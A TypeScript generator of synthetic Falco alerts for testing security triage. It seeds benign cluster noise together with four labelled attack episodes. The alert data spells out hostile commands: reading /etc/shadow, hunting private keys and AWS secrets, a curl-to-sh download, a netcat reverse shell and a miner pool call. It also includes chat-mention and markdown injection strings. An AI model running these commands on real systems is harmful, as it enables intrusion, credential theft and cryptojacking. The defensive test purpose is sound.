import type { FalcoAlert } from "./alert.js";
import { planBenign } from "./benign.js";
import { Rng } from "./prng.js";
import { privilegedPodAlert, type Container } from "./rules.js";
import { APP, KEYCLOAK, Plan, castOf, episodes, loginShell, proc, tty } from "./scenario.js";
import type { Cast, Label } from "./scenario.js";

/**
 * Twenty minutes of Falco alerts from a small shop's cluster: steady benign noise from known
 * workloads (some of it alarming on its face) and four attack episodes, each on one pod. The same
 * seed always gives the same alerts, so tests, benches and demos share one committed file.
 */

export { episodes, type EpisodeId, type Label } from "./scenario.js";
export type { FalcoAlert } from "./alert.js";

/** The parameters of the committed fleet/sample/falco-events.jsonl. */
export const SAMPLE_SEED = 1;
export const SAMPLE_START = new Date("2026-11-24T09:00:00Z");

export interface LabelledAlert {
  event: FalcoAlert;
  /** Ground truth for scoring triage: which episode an alert belongs to, or "benign". */
  label: Label;
}

export interface SampleOptions {
  seed: number;
  start: Date;
}

/** Attacker-controlled strings carry chat mentions, markdown, backticks and newlines on purpose. */
function planAttacks(plan: Plan, cast: Cast, job7: Container, job7Start: number): void {
  const { rng } = plan;

  // An interactive shell in the storefront, then credential theft.
  const theft: Label = "shop-credential-theft";
  const cat = tty("cat", "cat /etc/shadow", "bash", "/usr/bin/cat");
  const grepCmd =
    'grep -rIl "BEGIN RSA PRIVATE" /etc /root /usr/share/nginx ; ' +
    'echo "@channel urgent: re-login at [click](http://evil.example) `id`\n-- platform team"';
  const grep = tty("grep", grepCmd, "bash", "/usr/bin/grep");
  plan.syscall(
    theft,
    372 + rng.float() * 3,
    "Terminal shell in container",
    cast.victimWeb,
    loginShell,
    "execve",
  );
  plan.syscall(
    theft,
    393 + rng.float() * 3,
    "Read sensitive file untrusted",
    cast.victimWeb,
    cat,
    "openat",
    "/etc/shadow",
  );
  plan.syscall(
    theft,
    421 + rng.float() * 3,
    "Search Private Keys or Passwords",
    cast.victimWeb,
    grep,
    "execve",
  );

  // The storefront's service-account token creates a privileged pod; the k8saudit plugin sees it.
  const ns = plan.at(561 + rng.float() * 3);
  const privileged = {
    ns,
    node: "worker-a1",
    user: "system:serviceaccount:shop:storefront",
    namespace: episodes["k8s-privileged-pod"].namespace,
    pod: episodes["k8s-privileged-pod"].pod,
    images: "docker.io/library/alpine:3.20",
  };
  plan.items.push({ ns, label: "k8s-privileged-pod", build: (uuid) => privilegedPodAlert(privileged, uuid) });

  // An exploited keycloak drops binaries into /tmp and opens a reverse shell.
  const dropper: Label = "identity-dropper";
  const drop = "Drop and execute new binary in container";
  const kworkerdCmd =
    "/tmp/.x/kworkerd -o `curl -fsSL http://198.51.100.23/k|sh` --label '[click](http://evil.example)'";
  const kworkerd = proc("kworkerd", kworkerdCmd, "java", "/tmp/.x/kworkerd", KEYCLOAK);
  const nc = proc("nc", "nc 198.51.100.23 4444 -e /bin/sh", "kworkerd", "/tmp/.x/nc", KEYCLOAK);
  const miner = proc(
    "kswapd0",
    "/tmp/.x/kswapd0 -c /tmp/.x/config.json",
    "kworkerd",
    "/tmp/.x/kswapd0",
    KEYCLOAK,
  );
  plan.syscall(dropper, 715 + rng.float() * 3, drop, cast.keycloak, kworkerd, "execve");
  plan.syscall(
    dropper,
    719 + rng.float() * 3,
    "Netcat Remote Code Execution in Container",
    cast.keycloak,
    nc,
    "execve",
  );
  plan.syscall(dropper, 760 + rng.float() * 3, drop, cast.keycloak, miner, "execve");

  // The hijacked report job runs a payload from a memfd, then hunts for cloud keys.
  const memCmd = "[kworker/u8:2] --pool stratum+tcp://203.0.113.9:3333 --tag '<!channel> @here `uname -a`'";
  const payload = proc("kworker", memCmd, "java", "/memfd:kworker (deleted)", APP);
  const hunt = proc(
    "grep",
    "grep -rsl aws_secret_access_key / --exclude-dir=proc",
    "kworker",
    "/usr/bin/grep",
    APP,
  );
  const memfd = "Fileless execution via memfd_create";
  plan.syscall("batch-memfd", job7Start + 20 + rng.float() * 3, memfd, job7, payload, "execve");
  plan.syscall("batch-memfd", job7Start + 31 + rng.float() * 3, "Find AWS Credentials", job7, hunt, "execve");
}

export function generateLabelledSample({ seed, start }: SampleOptions): LabelledAlert[] {
  const rng = new Rng(seed);
  const plan = new Plan(rng, BigInt(start.getTime()) * 1_000_000n);
  const cast = castOf(rng);
  const { job7, job7Start } = planBenign(plan, cast);
  planAttacks(plan, cast, job7, job7Start);

  // Stable sort, so equal times (none expected) keep planning order. About half the alerts then
  // take falcosidekick's form: deployments often mix alerts sent directly and relayed ones.
  const ordered = [...plan.items].sort((a, b) => (a.ns < b.ns ? -1 : a.ns > b.ns ? 1 : 0));
  return ordered.map((item) => ({
    event: item.build(rng.chance(0.5) ? rng.uuid() : undefined),
    label: item.label,
  }));
}

export function generateSample(options: SampleOptions): FalcoAlert[] {
  return generateLabelledSample(options).map(({ event }) => event);
}
